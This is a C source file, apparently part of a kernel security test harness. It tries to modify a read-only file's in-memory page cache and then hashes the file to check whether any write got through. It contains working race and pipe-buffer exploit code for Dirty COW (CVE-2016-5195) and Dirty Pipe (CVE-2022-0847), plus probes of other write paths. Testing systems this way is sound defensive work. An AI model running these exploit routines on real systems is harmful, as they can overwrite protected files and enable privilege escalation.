/* Tries to change a file that may only be read in the one copy of it that the machine keeps in memory for all. */
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

enum { PAGE = 4096, CRYPTO = 38 };
static const char EVIL[] = "EVIL";
static const double RACE_SECONDS = 0.3;

static void *mapped(int file, int protection, int flags) { return mmap(NULL, PAGE, protection, flags, file, 0); }

static void by_mapping(int file, char *shared) {
    char path[64];
    tell("map", outcome(mapped(file, PROT_READ | PROT_WRITE, MAP_SHARED) == MAP_FAILED ? -1 : 0));
    tell("protect", outcome(mprotect(shared, PAGE, PROT_READ | PROT_WRITE)));
    snprintf(path, sizeof path, "/proc/self/map_files/%lx-%lx", (unsigned long)shared, (unsigned long)shared + PAGE);
    tell("map-files", outcome(open(path, O_RDWR)));
}

static void *forget(void *copy) {
    for (double end = now() + RACE_SECONDS; now() < end;) madvise(copy, PAGE, MADV_DONTNEED);
    return NULL;
}

/* CVE-2016-5195: what is forced into a private copy while that is being forgotten */
static void by_memory(int file, char *shared) {
    char *copy = mapped(file, PROT_READ, MAP_PRIVATE);
    int memory = open("/proc/self/mem", O_RDWR);
    long forced = 0;
    pthread_t other;
    tell("memory-shared", outcome(pwrite(memory, EVIL, sizeof EVIL, (off_t)(size_t)shared)));
    pthread_create(&other, NULL, forget, copy);
    for (double end = now() + RACE_SECONDS; now() < end;)
        forced += pwrite(memory, EVIL, sizeof EVIL, (off_t)(size_t)copy) > 0;
    pthread_join(other, NULL);
    tell("memory-forced", forced > 0);
}

/* every place in the pipe has once held what may be added to (CVE-2022-0847) */
static void used(int *ends) {
    static char data[PAGE];
    long held = 0, got;
    pipe2(ends, O_NONBLOCK);
    while ((got = write(ends[1], data, sizeof data)) > 0) held += got;
    for (; held > 0; held -= got)
        if ((got = read(ends[0], data, sizeof data)) <= 0) return;
}

static void by_pipes(int file, char *shared) {
    int one[2], other[2], third[2];
    loff_t start = 0;
    struct iovec page = {shared, PAGE};
    used(one), used(other), used(third);
    tell("splice", splice(file, &start, one[1], NULL, 1, 0) == 1 && write(one[1], EVIL, sizeof EVIL) > 0);
    tell("vmsplice", vmsplice(other[1], &page, 1, SPLICE_F_GIFT) > 0 && write(other[1], EVIL, sizeof EVIL) > 0);
    tell("tee", tee(one[0], third[1], PAGE, 0) > 0 && write(third[1], EVIL, sizeof EVIL) > 0);
}

/* an outcome is an errno; what is done, which the kernel itself has to keep from the file, is 1 */
static void page_cache(char **words) {
    int file = open(words[0], O_RDONLY);
    char *shared = mapped(file, PROT_READ, MAP_SHARED);
    by_mapping(file, shared);
    by_memory(file, shared);
    by_pipes(file, shared);
    tell("truncate", outcome(ftruncate(file, 0)));
    tell("punch", outcome(fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, PAGE)));
    /* CVE-2026-31431 writes by such a socket */
    tell("crypto", outcome(socket(CRYPTO, SOCK_SEQPACKET, 0)));
}

/* FNV-1a of what is read now */
static void sum(char **words) {
    static unsigned char data[1 << 16];
    unsigned found = 2166136261u;
    int file = open(words[0], O_RDONLY);
    for (long got; (got = read(file, data, sizeof data)) > 0;)
        for (long at = 0; at < got; at++) found = (found ^ data[at]) * 16777619u;
    tell("sum", found);
}

const struct verb PAGE_CACHE[] = {{"page-cache", page_cache}, {"sum", sum}, {NULL, NULL}};
